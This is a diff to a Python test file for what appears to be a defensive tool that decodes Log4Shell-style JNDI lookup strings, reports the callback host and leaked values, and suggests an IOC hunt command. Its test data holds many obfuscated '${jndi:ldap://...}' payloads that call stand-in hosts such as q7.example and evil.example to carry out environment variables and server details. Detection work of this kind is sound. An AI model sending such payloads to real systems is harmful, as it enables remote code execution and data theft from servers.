@@ -74,7 +74,7 @@ REACHES   once URL-decoded, this lookup would be done
   calls back   ldap   <USER>.q7.example   port 389 (default)   path /a
   leaks        environment variable USER, in the host name: a DNS query is
                enough to carry it out
-  next         hikeshi hunt --outbound LOG --ioc q7.example LOGS
+  next         hikeshi hunt --outbound LOG --ioc '*.q7.example' LOGS
 """
 DISGUISED = "%24%7B${lower:J}ndi:${::-l}dap://${env:USER}.q7.example/a%7D"
 
@@ -291,22 +291,29 @@ class Ends(unittest.TestCase):
     def test_what_leaks(self):
         for text, host, leaks, ioc in (
                 ("${jndi:ldap://${env:USER:-x}.q7.example/a}", "<USER>.q7.example",
-                 ['environment variable USER ("x" where it is not set), in the host name'], "q7.example"),
+                 ['environment variable USER ("x" where it is not set), in the host name'], "'*.q7.example'"),
                 ("${jndi:ldap://${env:A:-}${hostName}.q7.example/}", "<A><hostName>.q7.example",
-                 ["environment variable A (nothing where it is not set), in the host", "this server's name, in the host"], "q7.example"),
+                 ["environment variable A (nothing where it is not set), in the host", "this server's name, in the host"], "'*.q7.example'"),
                 ("${jndi:ldap://${lower:${ENV:User}}.q7.example/${sys:user.name}/${sys:user.name}", "<User>.q7.example",
-                 ["environment variable User, in the host", "system property user.name\n"], "q7.example"),
+                 ["environment variable User, in the host", "system property user.name\n"], "'*.q7.example'"),
                 ("${jndi:ldap://${java:version}.a.q7.example/${env:HOME}", "<version>.a.q7.example",
-                 ["what Java says of its version, in the host", "environment variable HOME\n"], "a.q7.example"),
+                 ["what Java says of its version, in the host", "environment variable HOME\n"], "'*.a.q7.example'"),
                 ("${jndi:ldap://${env:WHO:-evil.example}/a}", "<WHO>", ['environment variable WHO ("evil.example"'], "evil.example"),
-                ("$${a} ${jndi:ldap://${ctx:id}.q7.example/}", "<id>.q7.example", ["value id of the log's context"], "q7.example"),
+                ("${jndi:ldap://${event:Level}.q7.example/${date:yyyy}}", "<Level>.q7.example",
+                 ["the Level of the message in the log, in the host"], "'*.q7.example'"),
+                ("${jndi:ldap://${date:yyyy}${date:'x'}.q7.example/}", "<yyyy>x.q7.example", [], "'*.q7.example'"),
+                ("${jndi:ldap://${env:A:-${env:B}}.co.jp:${env:P:-389}/}", "<A><B>.co.jp", ["environment variable A (nothing", "environment variable B", "environment variable P"], None),
+                ("${jndi:ldap://${env:A:-evil.example:389/a}}", "evil.example", [], "evil.example"),
+                ("${jndi:ldap://u${env:U@evil.example}.q7.example/}", "u<U@evil.example>.q7.example",
+                 ["environment variable U@evil.example, in the host"], "'*.q7.example'"),
+                ("$${a} ${jndi:ldap://${ctx:id}.q7.example/}", "<id>.q7.example", ["value id of the log's context"], "'*.q7.example'"),
                 ("${${env:X:-j}ndi${env:X:-:}ldap://${env:X:-e}vil${sys:file.separator}a}", "evil", [], "evil")):
             out = shown(text, COLUMNS="200")
             self.assertIn("   %s   port 389" % host, out)
             self.assertEqual(len(re.findall("(?m)^  leaks ", out)), len(leaks), out)
             for leak in leaks:
                 self.assertIn("  leaks        " + leak, out)
-            self.assertIn("--outbound LOG --ioc %s LOGS\n" % ioc, out)
+            self.assertIn("--outbound LOG --ioc %s LOGS\n" % ioc if ioc else "--outbound LOG LOGS\n", out)
 
     def test_a_letter_leaks_where_it_is_no_part_of_a_word(self):
         for behind, leaks in (("vil", 0), ("9", 0), (".", 1), ("\x11", 1), ("_", 1)):
